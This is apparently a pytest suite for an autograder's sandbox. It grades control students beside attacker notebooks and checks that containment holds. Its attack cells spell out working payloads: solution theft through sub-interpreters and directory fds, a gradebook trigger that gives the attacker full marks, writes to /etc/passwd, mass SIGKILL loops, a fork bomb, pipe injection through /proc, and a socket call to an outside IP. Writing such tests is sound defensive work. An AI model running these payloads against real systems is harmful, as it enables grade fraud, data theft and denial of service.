"""The attack suite: students who have read all of the grader's source, graded beside honest ones.

One class of hw2_layers is graded through the whole pipeline (gradebook, feedback, JSON):
two control students and one attacker per class of attack the containment issue lists
(the submission layouts are in test_submission_layouts.py, the judge's NaN and
exception-name cases in test_judge_robustness.py). Every attacker starts from a blank
notebook, so anything it scores it did not compute. For each: it earns nothing, the
controls keep the exact scores they get when graded alone (in the report and in
gradebook.db), no file outside the child's scratch folder changed, nothing it started is
left running, and its grading stayed within the per-student budget.
"""
import hashlib
import json
import os
import shutil
import socket
import sqlite3
import sys
import time
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from support import ROOT

import solutions
from autograder.round.pipeline import grade_all
from autograder.round.samples import Sample, with_bug, write_submission
from autograder.sandbox.containment import UID_BASE, UID_SLOTS, choose
from autograder.sandbox.runner import Limits

A = "hw2_layers"
GRADED = solutions.ASSIGNMENTS[A]
LIMITS = Limits(cell_seconds=3, call_seconds=3, student_seconds=25, max_restarts_total=6)
SITE = str(Path(shutil.__file__).parent)  # any path outside the view will do
VENV_SITE = next(p for p in sys.path if p.endswith("site-packages"))
TCP_PORT, UDP_PORT = 47613, 47614
UNIX_PATH = "/tmp/backproplab-attack.sock"
CANARY = "/tmp/backproplab-pwned"


def controls():
    return [Sample("ctl_perfect", "the reference everywhere"),
            Sample("ctl_buggy", "dw transposed", answers={"affine_backward": with_bug(
                "affine_backward", "dw = x_flat.T @ dout", "dw = (x_flat.T @ dout).T")})]


def attacks(course):
    """{student: attack cell}; each starts from a blank notebook."""
    steal = ("for _n in {names!r}:\n    globals()[_n] = getattr(solutions, _n)\n"
             .format(names=GRADED))
    return {
        # the hook's policy reached through __main__, then the editable install's finder
        "atk_policy": (
            "import sys\nmain = sys.modules['__main__']\n"
            "for k in list(vars(main)):\n"
            "    v = getattr(main, k)\n"
            "    if isinstance(v, (set, frozenset, tuple, list, str)):\n"
            "        try:\n            setattr(main, k, type(v)())\n"
            "        except Exception:\n            pass\n"
            f"sys.path[:0] = [{str(ROOT)!r}, {VENV_SITE!r}]\n"
            "try:\n    import solutions\n"
            "except BaseException:\n"
            "    import importlib.util\n"
            f"    spec = importlib.util.spec_from_file_location('solutions', {str(ROOT / 'solutions' / '__init__.py')!r})\n"
            "    solutions = importlib.util.module_from_spec(spec)\n"
            "    spec.loader.exec_module(solutions)\n" + steal),
        # a sub-interpreter runs without the parent's audit hooks
        "atk_subinterpreter": (
            "import _xxsubinterpreters as si\ni = si.create()\n"
            "si.run_string(i, " + repr(
                f"import sys; sys.path.insert(0, {str(ROOT)!r}); import solutions, inspect; "
                f"open('stolen.py', 'w').write(''.join(inspect.getsource(getattr(solutions, n)) "
                f"for n in {GRADED!r}))") + ")\n"
            "exec(open('stolen.py').read())\n"),
        # relative paths from a directory fd, and fchdir, were not checked
        "atk_dirfd": (
            "import os\n"
            f"fd = os.open({str(ROOT / 'solutions')!r}, os.O_RDONLY | os.O_DIRECTORY)\n"
            "os.fchdir(fd)\nsrc = ''\n"
            "for f in ('layers.py', 'activations.py', 'losses.py', 'backprop.py'):\n"
            "    h = os.open(f, os.O_RDONLY, dir_fd=fd)\n"
            "    src += os.read(h, 10**6).decode()\n"
            "exec(src)\n"),
        # the course's gradebook: full marks for me, zero for a classmate
        "atk_gradebook": (
            "import sqlite3\n"
            f"db = sqlite3.connect({str(course / 'gradebook.db')!r})\n"
            "db.executescript(\"CREATE TRIGGER pwn AFTER UPDATE ON grade BEGIN "
            "UPDATE grade SET auto_score = 100; END;\")\ndb.commit()\n"),
        # other students' notebooks, the source notebooks; the grader, its venv, system files
        "atk_files": (
            "import glob\nloot = []\n"
            f"for p in glob.glob({str(course / 'submitted' / '*' / A / '*.ipynb')!r}) + "
            f"glob.glob({str(course / 'source' / A / '*.ipynb')!r}):\n"
            "    try:\n        loot.append(open(p).read())\n    except Exception:\n        pass\n"
            f"for p in [{str(ROOT / 'autograder' / 'judging' / 'judge.py')!r}, "
            f"{os.path.join(VENV_SITE, 'numpy', '__init__.py')!r}, '/etc/passwd', "
            f"{str(ROOT / 'solutions' / 'layers.py')!r}, {CANARY!r}]:\n"
            "    try:\n        open(p, 'a').write('\\n# pwned\\n')\n"
            "    except Exception:\n        pass\n"),
        # the parent, the pool, everything it can name
        "atk_kill": (
            "import os, signal\n"
            "for target in (os.getppid(), -1, 0, 1):\n"
            "    try:\n        os.kill(target, signal.SIGKILL)\n    except Exception:\n        pass\n"
            "for pid in range(2, 70000):\n"
            "    try:\n        os.kill(pid, signal.SIGKILL)\n    except Exception:\n        pass\n"),
        # a detached process that outlives the child and kills the next students' children
        "atk_detached": (
            "import os, time\n"
            "try:\n    pid = os.fork()\nexcept Exception:\n    pid = -1\n"
            "if pid == 0:\n    os.setsid()\n    end = time.time() + 120\n"
            "    while time.time() < end:\n"
            "        for p in range(2, 70000):\n"
            "            try:\n                os.kill(p, 9)\n            except Exception:\n"
            "                pass\n"
            "    os._exit(0)\n"),
        # frames written into another child's pipes through /proc
        "atk_procfd": (
            "import os, struct, json\n"
            "frame = json.dumps({'ok': False, 'error': 'NotImplementedError'}).encode()\n"
            "for pid in os.listdir('/proc'):\n"
            "    if not pid.isdigit():\n        continue\n"
            "    try:\n        fds = os.listdir(f'/proc/{pid}/fd')\n    except Exception:\n"
            "        continue\n"
            "    for fd in fds:\n"
            "        try:\n"
            "            with open(f'/proc/{pid}/fd/{fd}', 'wb') as h:\n"
            "                h.write(struct.pack('>I', len(frame)) + frame)\n"
            "        except Exception:\n            pass\n"),
        # grader-side files the child could control: a FIFO where the parent reads stderr
        "atk_fifo": (
            "import os\n"
            "for name in ('stderr.txt', '../stderr.txt', 'config.json'):\n"
            "    try:\n        os.remove(name)\n    except Exception:\n        pass\n"
            "    try:\n        os.mkfifo(name)\n    except Exception:\n        pass\n"),
        # every socket family, to the machine and beyond
        "atk_network": (
            "import socket\n"
            f"targets = [(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {TCP_PORT})),\n"
            f"           (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', {UDP_PORT})),\n"
            f"           (socket.AF_UNIX, socket.SOCK_STREAM, {UNIX_PATH!r}),\n"
            "           (socket.AF_UNIX, socket.SOCK_STREAM, '\\0backproplab-attack'),\n"
            "           (socket.AF_INET, socket.SOCK_STREAM, ('93.184.216.34', 80))]\n"
            "for family, kind, address in targets:\n"
            "    try:\n        s = socket.socket(family, kind)\n        s.settimeout(1)\n"
            "        s.connect(address)\n        s.send(b'pwned')\n"
            "    except Exception:\n        pass\n"),
        # processes without end
        "atk_forkbomb": (
            "import os\nfor _ in range(10000):\n"
            "    try:\n        os.fork()\n    except Exception:\n        break\n"),
        # correct-looking functions that each sleep just under the call limit
        "atk_sleeper": (
            "import time\n"
            + "".join(f"def {n}(*args, **kwargs):\n    time.sleep({LIMITS.call_seconds - 0.2})\n"
                      "    raise NotImplementedError\n" for n in GRADED)),
        # slow cells, and a process that dies in every function: restarts without end
        "atk_restarts": (
            "import os, time\n"
            f"time.sleep({LIMITS.cell_seconds - 0.5})\n"
            + "".join(f"def {n}(*args, **kwargs):\n    os._exit(3)\n" for n in GRADED)),
        # memory and disk
        "atk_resources": (
            "import numpy as np\n"
            "try:\n    big = np.ones(int(40e9) // 8)\nexcept MemoryError:\n    pass\n"
            "try:\n    with open('fill', 'wb') as h:\n"
            "        for _ in range(4096):\n            h.write(b'x' * 2**20)\n"
            "except Exception:\n    pass\n"),
    }


def attack_samples(course):
    cells = attacks(course)
    samples = []
    for student, code in cells.items():
        extra = [code, code] if student == "atk_restarts" else [code]
        samples.append(Sample(student, student, all_blank=True, extra_cells=extra))
    return samples


LAYOUT_ATTACKERS = ["atk_link_notebook", "atk_link_folder", "atk_layout"]


def write_layout_attacks(course):
    """Submissions whose files, not code, attack: a graded notebook that is a symlink to the
    source (solutions included), an assignment folder that is a symlink to a classmate's, and
    a folder named like a notebook beside a notebook nested 100,000 deep and a 64 GiB file."""
    submitted = course / "submitted"
    (submitted / "atk_link_notebook" / A).mkdir(parents=True)
    os.symlink(course / "source" / A / f"{A}.ipynb",
               submitted / "atk_link_notebook" / A / f"{A}.ipynb")
    (submitted / "atk_link_folder").mkdir()
    os.symlink(submitted / "ctl_perfect" / A, submitted / "atk_link_folder" / A)
    layout = write_submission(course, A, Sample("atk_layout", "layout", all_blank=True))
    (layout / "scratch.ipynb").mkdir()
    (layout / "deep.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    with open(layout / "huge.ipynb", "wb") as handle:
        handle.truncate(64 * 1024**3)


def make_course(path):
    for folder in ("source", "release"):
        shutil.copytree(ROOT / folder / A, path / folder / A)
    shutil.copy(ROOT / "nbgrader_config.py", path)
    return path


def snapshot(paths):
    """{file: (size, mtime, sha256 of its first MiB)} of every file under ``paths``."""
    state = {}
    for root in paths:
        root = Path(root)
        files = [root] if root.is_file() else [p for p in root.rglob("*")
                                               if p.is_file() and not p.is_symlink()]
        for path in files:
            if "__pycache__" in path.parts or path.suffix == ".pyc":
                continue
            stat = path.stat()
            with open(path, "rb") as handle:
                head = hashlib.sha256(handle.read(2**20)).hexdigest()
            state[str(path)] = (stat.st_size, stat.st_mtime_ns, head)
    return state


def gradebook_scores(course, students):
    with Gradebook(f"sqlite:///{course}/gradebook.db") as gb:
        return {s: {g.name: g.auto_score for nb in gb.find_submission(A, s).notebooks
                    for g in nb.grades} for s in students}


def sandbox_processes():
    """Processes running under a sandbox uid (pids, as strings)."""
    left = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            uid_line = next(line for line in (entry / "status").read_text().splitlines()
                            if line.startswith("Uid:"))
        except (OSError, StopIteration):
            continue
        if UID_BASE <= int(uid_line.split()[1]) < UID_BASE + UID_SLOTS:
            left.append(entry.name)
    return left


class Listeners:
    """A TCP server, a UDP socket and Unix sockets (path and abstract) that count contacts."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", TCP_PORT))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", UDP_PORT))
        if os.path.exists(UNIX_PATH):
            os.unlink(UNIX_PATH)
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(UNIX_PATH)
        os.chmod(UNIX_PATH, 0o777)
        self.unix.listen()
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind("\0backproplab-attack")
        self.abstract.listen()
        for s in (self.tcp, self.udp, self.unix, self.abstract):
            s.setblocking(False)

    def contacts(self):
        count = 0
        for s in (self.tcp, self.unix, self.abstract):
            try:
                s.accept()
                count += 1
            except BlockingIOError:
                pass
        try:
            self.udp.recv(100)
            count += 1
        except BlockingIOError:
            pass
        return count

    def close(self):
        for s in (self.tcp, self.udp, self.unix, self.abstract):
            s.close()
        os.unlink(UNIX_PATH)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    assert choose().level == "namespaces", "this machine should offer namespaces (CI runs here)"
    alone = make_course(tmp_path_factory.mktemp("alone"))
    for sample in controls():
        write_submission(alone, A, sample)
    baseline = grade_all(alone, A, jobs=2, limits=LIMITS, progress=False)
    course = make_course(tmp_path_factory.mktemp("attacked"))
    samples = controls() + attack_samples(course)
    for sample in samples:
        write_submission(course, A, sample)
    write_layout_attacks(course)
    watched = [ROOT / "solutions", ROOT / "autograder", ROOT / "lib", ROOT / "source",
               ROOT / "release", os.path.join(VENV_SITE, "numpy"), "/etc/passwd",
               course / "source", course / "release", course / "submitted",
               course / "nbgrader_config.py"]
    before = snapshot(watched)
    # sandboxed children this grading did not start (the session's reference student) are not
    # its leftovers
    running_before = set(sandbox_processes())
    listeners = Listeners()
    start = time.monotonic()
    try:
        reports = grade_all(course, A, jobs=2, limits=LIMITS, progress=False)
        elapsed = time.monotonic() - start
        time.sleep(1)  # anything left behind would act now
        contacts = listeners.contacts()
    finally:
        listeners.close()
    return {"course": course, "alone": alone, "baseline": baseline, "reports": reports,
            "before": before, "after": snapshot(watched), "watched": watched,
            "elapsed": elapsed, "contacts": contacts,
            "left": [p for p in sandbox_processes() if p not in running_before]}


CODE_ATTACKERS = sorted(attacks(Path("/nowhere")))
ATTACKERS = CODE_ATTACKERS + LAYOUT_ATTACKERS


@pytest.mark.parametrize("student", ATTACKERS)
def test_attacker_earns_nothing(graded, student):
    report = graded["reports"][student]
    assert report["score"] == 0.0, {n: f["score"] for n, f in report["functions"].items()
                                    if f["score"]}


@pytest.mark.parametrize("student", CODE_ATTACKERS)
def test_the_report_and_feedback_record_the_containment(graded, student):
    label = graded["reports"][student]["containment"]
    assert label.startswith("namespaces+landlock")
    feedback = graded["course"] / "feedback" / student / A / "feedback.html"
    assert f"contained process: {label}" in feedback.read_text()


def test_layout_attacks_are_flagged(graded):
    for student in LAYOUT_ATTACKERS:
        assert graded["reports"][student]["flags"], student


def test_controls_keep_their_exact_scores_in_report_and_gradebook(graded):
    for student, alone in graded["baseline"].items():
        beside = graded["reports"][student]
        assert {n: f["score"] for n, f in beside["functions"].items()} == \
            {n: f["score"] for n, f in alone["functions"].items()}, student
    names = list(graded["baseline"])
    assert gradebook_scores(graded["course"], names) == gradebook_scores(graded["alone"], names)
    assert graded["reports"]["ctl_perfect"]["score"] == graded["reports"]["ctl_perfect"]["max_score"]


def test_the_gradebook_has_no_trigger_and_no_attacker_marks(graded):
    db = sqlite3.connect(graded["course"] / "gradebook.db")
    assert db.execute("SELECT count(*) FROM sqlite_master WHERE type = 'trigger'").fetchone()[0] == 0
    scores = gradebook_scores(graded["course"], ATTACKERS)
    assert all(not score for grades in scores.values() for score in grades.values()), scores


def test_no_file_outside_the_scratch_folder_changed(graded):
    assert graded["after"] == graded["before"]
    assert not os.path.exists(CANARY)


def test_nothing_reached_the_network_and_nothing_is_left_running(graded):
    assert graded["contacts"] == 0
    assert graded["left"] == []


def test_every_student_finished_within_the_budget(graded):
    for student, report in graded["reports"].items():
        assert report["timing"].get("total", 0) < LIMITS.student_seconds + 15, student
    # two jobs: the whole class takes no longer than half its budgets, plus start-up
    assert graded["elapsed"] < len(graded["reports"]) * LIMITS.student_seconds / 2 + 60


def test_budget_and_restart_caps_name_what_happened(graded):
    sleeper = graded["reports"]["atk_sleeper"]["functions"]
    kinds = {c["kind"] for f in sleeper.values() for c in f["checks"]}
    assert "time_budget" in kinds
    restarts = graded["reports"]["atk_restarts"]["functions"]
    assert {c["kind"] for f in restarts.values() for c in f["checks"]} <= {
        "crashed", "time_budget", "not_defined"}
